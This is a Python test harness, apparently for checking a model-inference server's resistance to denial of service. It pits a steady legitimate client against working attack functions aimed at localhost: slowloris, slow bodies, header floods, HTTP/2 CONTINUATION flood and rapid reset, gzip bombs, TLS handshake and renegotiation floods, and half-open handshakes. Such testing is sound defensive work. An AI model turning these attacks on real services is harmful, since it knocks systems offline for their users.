"""Good and bad callers. Each bad one is a function for a process of its own, which attacks until it is killed."""
import asyncio
import ctypes
import ctypes.util
import functools
import gzip
import itertools
import json
import selectors
import socket
import ssl
import struct
import time

HOST = "127.0.0.1"
BODY = json.dumps({"inputs": [{"name": "input", "shape": [1, 4], "datatype": "FP32", "data": [5.1, 3.5, 1.4, 0.2]}]}).encode()


def trusting():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def connect(port, tls=False, timeout=20):
    plain = socket.create_connection((HOST, port), timeout=timeout)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return trusting().wrap_socket(plain) if tls else plain


def request(body, *headers):
    lines = ["POST /v2/models/iris/infer HTTP/1.1", f"Host: {HOST}", "Content-Type: application/json", f"Content-Length: {len(body)}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def read_answer(connection):
    """The status of an answer with a Content-Length; None at the connection's end."""
    text = b""
    while b"\r\n\r\n" not in text:
        more = connection.recv(65536)
        if not more:
            return None
        text += more
    head, rest = text.split(b"\r\n\r\n", 1)
    length = next(int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length"))
    while len(rest) < length:
        rest += connection.recv(65536)
    return int(head[9:12])


def good(port, tls, seconds, rate, connections=4):
    """Sends inferences at a steady rate over a few connections. Milliseconds from when each was due, and how many failed."""
    open_ones = itertools.cycle([connect(port, tls) for _ in range(connections)])
    ask, took, failed = request(BODY), [], 0
    begun = time.monotonic()
    for i in range(int(seconds * rate)):
        due = begun + i / rate
        time.sleep(max(0, due - time.monotonic()))
        connection = next(open_ones)
        connection.sendall(ask)
        failed += read_answer(connection) != 200
        took.append((time.monotonic() - due) * 1e3)
    return took, failed


def fill(port, count, greeting=b""):
    """Connections, as many as asked for; those that the server closes are opened again by the caller."""
    made = []
    for _ in range(count):
        one = socket.create_connection((HOST, port), timeout=20)
        if greeting:
            one.sendall(greeting)
        made.append(one)
    return made


def idle(port, ready):
    """10,000 connections that say nothing."""
    kept = fill(port, 10_000)
    ready.set()
    time.sleep(3600)
    return kept


def drip(port, ready, count, greeting, byte):
    """Sends each connection one byte a second, evenly over the second, and opens again those that were closed."""
    kept = fill(port, count, greeting)
    ready.set()
    begun = time.monotonic()
    for i in itertools.count():
        if i % 20 == 0:
            time.sleep(max(0, begun + i / count - time.monotonic()))
        try:
            kept[i % count].sendall(byte)
        except OSError:
            kept[i % count] = fill(port, 1, greeting)[0]


def slow_loris(port, ready):
    """2,000 requests whose headers come by one byte a second."""
    drip(port, ready, 2000, b"GET /v2 HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"x")


def slow_bodies(port, ready):
    """2,000 requests whose bodies come by one byte a second."""
    head = b"POST /v2/models/iris/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000000\r\n\r\n"
    drip(port, ready, 2000, head, b" ")


def header_flood(port, ready, rate=400):
    """Requests with 1 MB of headers, over and over: the server should stop reading at its limit."""
    flood = b"GET /v2 HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 1000) for i in range(1000))
    ready.set()
    while True:
        begun = time.monotonic()
        try:
            with connect(port) as one:
                one.sendall(flood)
                one.recv(4096)
        except OSError:
            pass
        time.sleep(max(0, 1 / rate - (time.monotonic() - begun)))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def continuation_flood(port, ready, rate=400):
    """HTTP/2 headers that never end: each connection goes on until the server closes it."""
    headers = frame(4, 0, 0) + frame(1, 1, 1, b"\x83\x86\x84")
    more = b"".join(frame(9, 0, 1, b"\x00\x02aa\x7e" + b"b" * 126) for _ in range(2000))
    ready.set()
    while True:
        begun = time.monotonic()
        try:
            with connect(port) as one:
                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + headers + more)
                while one.recv(65536):
                    pass
        except OSError:
            pass
        time.sleep(max(0, 1 / rate - (time.monotonic() - begun)))


def rapid_reset(port, ready, rate=400):
    """HTTP/2 calls that are given up at once, a hundred at a time."""
    calls = b"".join(
        frame(1, 4, stream, b"\x83\x86\x04\x2a/inference.GRPCInferenceService/ModelInfer\x0f\x10\x10application/grpc") + frame(3, 0, stream, b"\0\0\0\x08")
        for stream in range(1, 201, 2))
    ready.set()
    while True:
        begun = time.monotonic()
        try:
            with connect(port) as one:
                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + calls)
                one.shutdown(socket.SHUT_WR)
                while one.recv(65536):
                    pass
        except OSError:
            pass
        time.sleep(max(0, 1 / rate - (time.monotonic() - begun)))


@functools.cache
def bomb():
    """1 MB that would be 1 GB."""
    return request(gzip.compress(b" " * (1 << 30), 9), "Content-Encoding: gzip")


def bombs(port, ready, rate=20):
    """Bodies of 1 MB that would be 1 GB, twenty a second."""
    ready.set()
    while True:
        begun = time.monotonic()
        try:
            with connect(port) as one:
                one.sendall(bomb())
                one.recv(4096)
        except OSError:
            pass
        time.sleep(max(0, 1 / rate - (time.monotonic() - begun)))


def large_bodies(port, ready):
    """JSON of 60 MB, one after the other on one connection: nothing forbidden, but half a second of reading each."""
    rows = 60_000_000 // len("5.1,3.5,1.4,0.2,")
    data = b"5.1,3.5,1.4,0.2," * (rows - 1) + b"5.1,3.5,1.4,0.2"
    ask = request(b'{"inputs":[{"name":"input","shape":[%d,4],"datatype":"FP32","data":[%s]}]}' % (rows, data))
    connection = connect(port, timeout=60)
    ready.set()
    while True:
        connection.sendall(ask)
        read_answer(connection)


def handshakes(port, ready, rate=200):
    """New TLS connections that end after the handshake, two hundred a second."""
    context = trusting()
    ready.set()
    while True:
        begun = time.monotonic()
        try:
            context.wrap_socket(socket.create_connection((HOST, port), timeout=20)).close()
        except OSError:
            pass
        time.sleep(max(0, 1 / rate - (time.monotonic() - begun)))


def renegotiations(port, ready, connections=8):
    """
    Connections of TLS 1.2 that ask for handshakes over and over inside, each opened again when the server ends it. By the library itself:
    what a process of openssl for each connection takes to start, a good client feels whatever is attacked.
    """
    lib = ctypes.CDLL(ctypes.util.find_library("ssl"))
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(lib, name).restype = ctypes.c_void_p
    context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
    most_version, tls12 = 124, 0x0303
    lib.SSL_CTX_ctrl(context, most_version, ctypes.c_long(tls12), None)
    kept = [None] * connections
    ready.set()
    while True:
        for i, one in enumerate(kept):
            if one is None:
                plain = connect(port, timeout=None)
                inside = ctypes.c_void_p(lib.SSL_new(context))
                lib.SSL_set_fd(inside, plain.fileno())
                kept[i] = one = (plain, inside) if lib.SSL_connect(inside) == 1 else None
            if one is not None and not (lib.SSL_renegotiate(one[1]) == 1 and lib.SSL_do_handshake(one[1]) == 1):
                one[0].close()
                lib.SSL_free(one[1])
                kept[i] = None
        time.sleep(0.01)


def half_handshakes(port, ready):
    """2,000 connections that begin a handshake and never end it."""
    hello = bytes.fromhex("16030100c8010000c40303") + b"\x01" * 32
    kept = fill(port, 2000, hello)
    ready.set()
    selector = selectors.DefaultSelector()
    for one in kept:
        selector.register(one, selectors.EVENT_READ)
    while True:
        for key, _ in selector.select(1):
            selector.unregister(key.fileobj)
            key.fileobj.close()
            again = fill(port, 1, hello)[0]
            selector.register(again, selectors.EVENT_READ)


def sink(ready, certificate=None):
    """No attack: a server that takes what attackers send and does nothing with it, on a port that is told through `ready`."""
    context = None
    if certificate:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(*certificate)
        context.options |= ssl.OP_NO_RENEGOTIATION

    async def take(reader, writer, enough=65536):
        try:
            while enough > 0 and (piece := await reader.read(65536)):
                enough -= len(piece)
            writer.close()
        except (OSError, ssl.SSLError):
            pass

    async def serve():
        server = await asyncio.start_server(take, HOST, 0, ssl=context, backlog=4096)
        ready.put(server.sockets[0].getsockname()[1])
        await server.serve_forever()

    asyncio.run(serve())
